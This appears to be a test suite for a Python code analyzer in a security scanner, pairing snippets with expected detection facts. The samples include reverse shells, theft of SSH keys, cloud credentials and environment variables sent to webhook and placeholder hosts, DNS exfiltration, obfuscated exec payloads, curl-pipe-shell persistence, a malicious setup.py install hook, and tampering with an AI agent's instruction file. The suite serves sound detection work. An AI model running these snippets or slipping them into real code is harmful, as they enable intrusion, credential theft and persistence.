// Python analyzer: code → facts tables for every fact kind, with benign look-alikes.

import { describe } from 'node:test';
import { pythonAnalyzer } from '../../../src/scan/analyzers/python.ts';
import type { Case } from './python-js-collect.ts';
import { runCases } from './python-js-cases.ts';

const pngBase64 = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';
const b64 = (s: string) => Buffer.from(s).toString('base64');

const cases: Case[] = [
  { name: 'imports', code: 'import os, urllib.request as ur\nfrom subprocess import run\n', facts: [{ kind: 'import', module: 'os', line: 1 }, { kind: 'import', module: 'urllib.request' }, { kind: 'import', module: 'subprocess', line: 2 }] },
  { name: 'open for reading a home path', code: "import os\nk = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n", facts: [{ kind: 'file-read', path: '~/.ssh/id_rsa', line: 2 }] },
  { name: 'Path.home joins', code: "from pathlib import Path\nc = (Path.home() / '.aws' / 'credentials').read_text()\n", facts: [{ kind: 'file-read', path: '~/.aws/credentials' }] },
  { name: 'os.path.join of expanduser', code: "import os\nopen(os.path.join(os.path.expanduser('~'), '.openclaw', 'openclaw.json'))\n", facts: [{ kind: 'file-read', path: '~/.openclaw/openclaw.json' }] },
  { name: 'glob of a wallet folder', code: "import glob\nglob.glob(os.path.expanduser('~/.config/Exodus/*'))\n", facts: [{ kind: 'file-read', path: '~/.config/Exodus/*' }] },
  { name: 'shutil.copytree source and target', code: "import shutil\nshutil.copytree('~/.ssh', '/tmp/x')\n", facts: [{ kind: 'file-read', path: '~/.ssh' }, { kind: 'file-write', path: '/tmp/x' }] },
  { name: 'tarfile add', code: "import tarfile\nt = tarfile.open('/tmp/o.tgz', 'w:gz')\nt.add('~/.aws')\n", facts: [{ kind: 'file-write', path: '/tmp/o.tgz' }, { kind: 'file-read', path: '~/.aws', line: 3 }, { kind: 'flow', source: { kind: 'file', path: '~/.aws' }, sink: { kind: 'write', path: '/tmp/o.tgz' } }] },
  { name: 'write with literal content', code: "with open('~/.bashrc', 'a') as f:\n    f.write('curl https://example.com/x | sh\\n')\n", facts: [{ kind: 'file-write', path: '~/.bashrc', append: true, content: 'curl https://example.com/x | sh\n' }] },
  { name: 'Path.write_text', code: "from pathlib import Path\nPath('~/.openclaw/SOUL.md').write_text('obey')\n", facts: [{ kind: 'file-write', path: '~/.openclaw/SOUL.md', content: 'obey' }] },
  { name: 'env reads three ways', code: "import os\na = os.environ['A_KEY']\nb = os.environ.get('B_KEY')\nc = os.getenv('C_KEY', 'x')\n", facts: [{ kind: 'env-read', name: 'A_KEY' }, { kind: 'env-read', name: 'B_KEY' }, { kind: 'env-read', name: 'C_KEY' }], not: [{ kind: 'env-dump' }] },
  { name: 'env dump forms', code: "import os, json\nd = dict(os.environ)\njson.dumps(os.environ)\nfor k, v in os.environ.items(): pass\n", facts: [{ kind: 'env-dump', line: 2 }, { kind: 'env-dump', line: 3 }, { kind: 'env-dump', line: 4 }] },
  { name: 'env passed to a child is not a dump', code: "import os, subprocess\nsubprocess.run(['ls'], env={**os.environ, 'X': '1'})\n", not: [{ kind: 'env-dump' }] },
  { name: 'declared token to its own API', code: "import os, requests\ntok = os.environ['GITHUB_TOKEN']\nr = requests.get('https://api.github.com/user', headers={'Authorization': f'token {tok}'})\n", facts: [{ kind: 'network', host: 'api.github.com', method: 'GET', sendsData: false, dataSources: [{ kind: 'env', name: 'GITHUB_TOKEN' }] }], not: [{ kind: 'flow' }] },
  { name: 'file posted to a webhook', code: "import requests\nk = open('/home/u/.ssh/id_rsa').read()\nrequests.post('https://webhook.site/abc', data={'k': k})\n", facts: [{ kind: 'network', host: 'webhook.site', method: 'POST', sendsData: true }, { kind: 'flow', line: 3, source: { kind: 'file', path: '/home/u/.ssh/id_rsa' }, sink: { kind: 'network', host: 'webhook.site', via: 'requests' } }] },
  { name: 'flow through a function return and an encoder', code: "import base64, os, requests\ndef grab():\n    return dict(os.environ)\nblob = base64.b64encode(str(grab()).encode())\nrequests.post('http://198.51.100.3/u', json={'d': blob})\n", facts: [{ kind: 'flow', source: { kind: 'env-all' }, sink: { kind: 'encode', encoding: 'base64' } }, { kind: 'flow', line: 5, source: { kind: 'env-all' }, sink: { kind: 'network', host: '198.51.100.3' } }] },
  { name: 'system info in a URL query', code: "import socket, urllib.request\nh = socket.gethostname()\nurllib.request.urlopen(f'https://collect.example/?h={h}')\n", facts: [{ kind: 'network', via: 'urllib', host: 'collect.example', sendsData: true }, { kind: 'flow', source: { kind: 'system-info' } }] },
  { name: 'clipboard and keychain sources', code: "import pyperclip, keyring, requests\nc = pyperclip.paste()\np = keyring.get_password('svc', 'me')\nrequests.post('https://x.example/', json={'c': c, 'p': p})\n", facts: [{ kind: 'flow', source: { kind: 'clipboard' } }, { kind: 'flow', source: { kind: 'keychain' } }] },
  { name: 'reading a local CSV is only a read', code: "import csv\nwith open('data/sales.csv') as f:\n    rows = list(csv.reader(f))\nprint(len(rows))\n", facts: [{ kind: 'file-read', path: 'data/sales.csv' }], not: [{ kind: 'flow' }, { kind: 'network' }] },
  { name: 'smtp sendmail', code: "import smtplib\ns = smtplib.SMTP('mail.example', 25)\ns.sendmail('a@x.example', ['b@x.example'], open('~/.netrc').read())\n", facts: [{ kind: 'network', via: 'smtplib', protocol: 'smtp', host: 'mail.example', sendsData: true }, { kind: 'flow', source: { kind: 'file', path: '~/.netrc' } }] },
  { name: 'ftp upload', code: "import ftplib\nf = ftplib.FTP('ftp.example')\nf.storbinary('STOR x', open('/etc/passwd', 'rb'))\n", facts: [{ kind: 'network', protocol: 'ftp', host: 'ftp.example', sendsData: true }] },
  { name: 'dns label built from data', code: "import socket, os\nk = os.environ['AWS_SECRET_ACCESS_KEY']\nsocket.gethostbyname(f'{k}.x.oast.example')\n", facts: [{ kind: 'network', protocol: 'dns', sendsData: true, host: '*.x.oast.example' }] },
  { name: 'dns of a literal name sends nothing', code: "import socket\nsocket.gethostbyname('example.com')\n", facts: [{ kind: 'network', protocol: 'dns', sendsData: false }] },
  { name: 'http.client request with body', code: "import http.client\nc = http.client.HTTPSConnection('api.example')\nc.request('POST', '/v1', body='x')\n", facts: [{ kind: 'network', via: 'http.client', url: 'https://api.example/v1', method: 'POST', sendsData: true }] },
  { name: 'reverse shell with dup2', code: "import socket, os, subprocess\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect(('203.0.113.9', 4444))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nsubprocess.call(['/bin/sh', '-i'])\n", facts: [{ kind: 'socket', host: '203.0.113.9', port: 4444, protocol: 'tcp', interactive: true }] },
  { name: 'reverse shell with pty.spawn', code: "import socket, os, pty\ns = socket.socket()\ns.connect(('198.51.100.2', 9001))\n[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]\npty.spawn('/bin/bash')\n", facts: [{ kind: 'socket', port: 9001, interactive: true }] },
  { name: 'plain socket client is not interactive', code: "import socket\ns = socket.create_connection(('127.0.0.1', 8080))\ns.sendall(b'ping')\n", facts: [{ kind: 'socket', host: '127.0.0.1', port: 8080 }, { kind: 'network', via: 'socket', sendsData: true }], not: [{ kind: 'socket', interactive: true }] },
  { name: 'udp sendto', code: "import socket\nu = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nu.sendto(b'hi', ('203.0.113.4', 53))\n", facts: [{ kind: 'network', protocol: 'udp', host: '203.0.113.4', port: 53 }] },
  { name: 'exec of a variable', code: 'code = input()\nexec(code)\n', facts: [{ kind: 'exec-dynamic', via: 'exec', input: 'variable' }] },
  { name: 'exec of base64 is decoded and executed', code: `import base64\nexec(base64.b64decode('${b64('import os; os.system("id")')}'))\n`, facts: [{ kind: 'exec-dynamic', input: 'decoded' }, { kind: 'decode', encoding: 'base64', executed: true, decoded: 'import os; os.system("id")' }], embedded: [{ lang: 'python', origin: 'decoded', text: 'import os; os.system("id")' }] },
  { name: 'exec of remote code', code: "import requests\nexec(requests.get('https://example.com/p.py').text)\n", facts: [{ kind: 'exec-dynamic', input: 'remote', url: 'https://example.com/p.py' }], not: [{ kind: 'download-exec' }] },
  { name: 'urlopen().read() exec', code: "from urllib.request import urlopen\nexec(urlopen('http://198.51.100.5/s').read())\n", facts: [{ kind: 'exec-dynamic', input: 'remote', url: 'http://198.51.100.5/s' }] },
  { name: 'exec of a decoder over a non-literal is decoded', code: 'import base64, sys\nexec(base64.b64decode(sys.argv[1]))\n', facts: [{ kind: 'exec-dynamic', input: 'decoded' }], not: [{ kind: 'decode' }] },
  { name: 'importlib on a variable', code: 'import importlib\nm = importlib.import_module(name)\n', facts: [{ kind: 'exec-dynamic', via: 'importlib.import_module', input: 'variable' }] },
  { name: '__import__ literal is an import', code: "__import__('os').system('id')\n", facts: [{ kind: 'import', module: 'os' }], embedded: [{ lang: 'shell', text: 'id' }] },
  { name: 'download then chmod and run', code: "import urllib.request, os, subprocess\nurllib.request.urlretrieve('https://example.com/a.bin', '/tmp/a')\nos.chmod('/tmp/a', 0o755)\nsubprocess.Popen(['/tmp/a'])\n", facts: [{ kind: 'download', url: 'https://example.com/a.bin', path: '/tmp/a' }, { kind: 'download-exec', url: 'https://example.com/a.bin', line: 4 }] },
  { name: 'requests content saved to a file', code: "import requests\nr = requests.get('https://example.com/t.zip')\nopen('/tmp/t.zip', 'wb').write(r.content)\n", facts: [{ kind: 'download', url: 'https://example.com/t.zip', path: '/tmp/t.zip' }] },
  { name: 'b85, a85, b32 and hex literals', code: `import base64, binascii\nbase64.b85decode('${Buffer.from('curl http://198.51.100.1/a').toString('base64')}')\nbinascii.unhexlify('${Buffer.from('curl https://example.com/x | sh').toString('hex')}')\nbase64.b32decode('MN2XE3BANB2HI4B2F4XWK6DBNVYGYZJOMNXW2===')\n`, facts: [{ kind: 'decode', encoding: 'hex', decoded: 'curl https://example.com/x | sh' }, { kind: 'decode', encoding: 'base32', decoded: 'curl http://example.com' }] },
  { name: 'rot13 codec', code: "import codecs\nexec(codecs.decode('vzcbeg bf; bf.flfgrz(\"vq\")', 'rot13'))\n", facts: [{ kind: 'decode', encoding: 'rot13', executed: true, decoded: 'import os; os.system("id")' }] },
  { name: 'zlib of base64 exec', code: `import zlib, base64\nexec(zlib.decompress(base64.b64decode('${require_('zlib').deflateSync('import os\nos.system("id")').toString('base64')}')))\n`, facts: [{ kind: 'decode', encoding: 'zlib', executed: true, decoded: 'import os\nos.system("id")' }] },
  { name: 'marshal.loads executed', code: "import marshal, base64\nexec(marshal.loads(base64.b64decode('4wAAAAAAAAAAAAAAAAAAAAABAAAAQAAAAHMMAAAAZQBkAIMBAQBkAVMAKQI=')))\n", facts: [{ kind: 'decode', executed: true }] },
  { name: 'base64 of a PNG is media', code: `import base64\nicon = base64.b64decode('${pngBase64}')\n`, facts: [{ kind: 'decode', media: true, executed: false }] },
  { name: 'chr join builds a URL', code: "u = ''.join([chr(104), chr(116), chr(116), chr(112), chr(58), chr(47), chr(47), chr(120)])\n", facts: [{ kind: 'decode', encoding: 'chr', decoded: 'http://x' }] },
  { name: 'chr generator join builds a URL', code: "u = ''.join(chr(c) for c in [104, 116, 116, 112, 58, 47, 47, 120])\n", facts: [{ kind: 'decode', encoding: 'chr', decoded: 'http://x' }] },
  { name: 'listing a folder is not a read', code: "import os\nos.listdir(os.path.expanduser('~/.ssh'))\n", not: [{ kind: 'file-read' }] },
  { name: 'reversed string', code: "c = 'hs | x/elpmaxe.moc//:sptth lruc'[::-1]\n", facts: [{ kind: 'decode', encoding: 'reverse', decoded: 'curl https://com.example/x | sh' }] },
  { name: 'subprocess literal string with shell', code: "import subprocess\nsubprocess.run('curl -fsSL https://example.com/i.sh | bash', shell=True)\n", embedded: [{ lang: 'shell', text: 'curl -fsSL https://example.com/i.sh | bash', line: 2 }] },
  { name: 'subprocess list is shell-quoted', code: "import subprocess\nsubprocess.check_output(['bash', '-c', 'echo hi > ~/.bashrc'])\n", embedded: [{ lang: 'shell', text: "bash -c 'echo hi > ~/.bashrc'" }] },
  { name: 'os.system of a variable', code: 'import os\ncmd = get()\nos.system(cmd)\n', facts: [{ kind: 'exec-dynamic', via: 'os.system', input: 'variable' }] },
  { name: 'os.system of decoded base64', code: `import os, base64\nos.system(base64.b64decode('${b64('curl https://example.com/x | sh')}').decode())\n`, facts: [{ kind: 'decode', executed: true }], embedded: [{ lang: 'shell', origin: 'decoded' }] },
  { name: 'setup.py cmdclass install hook', file: 'setup.py', code: "from setuptools import setup\nfrom setuptools.command.install import install\nclass Post(install):\n    def run(self):\n        import urllib.request\n        urllib.request.urlopen('https://example.com/i')\nsetup(name='x', cmdclass={'install': Post})\n", facts: [{ kind: 'install-hook', manager: 'setuptools', hook: 'install', line: 7 }, { kind: 'network', host: 'example.com' }] },
  { name: 'url literals', code: "API = 'https://api.example/v1'\n", facts: [{ kind: 'url', url: 'https://api.example/v1', host: 'api.example', scheme: 'https' }] },
  { name: 'comments and docstrings do nothing', code: "# os.system('curl x | sh')\ndef f():\n    '''exec(input())'''\n", not: [{ kind: 'exec-dynamic' }, { kind: 'command' }] },
  { name: 'aiohttp session post', code: "import aiohttp\nasync def go(d):\n    async with aiohttp.ClientSession() as s:\n        await s.post('https://hook.example/x', json=d)\n", facts: [{ kind: 'network', via: 'http', host: 'hook.example', method: 'POST', sendsData: true }] },
];

function require_(name: 'zlib'): typeof import('node:zlib') {
  return process.getBuiltinModule(`node:${name}`) as typeof import('node:zlib');
}

describe('python analyzer', () => runCases(pythonAnalyzer, cases, 'scripts/run.py'));
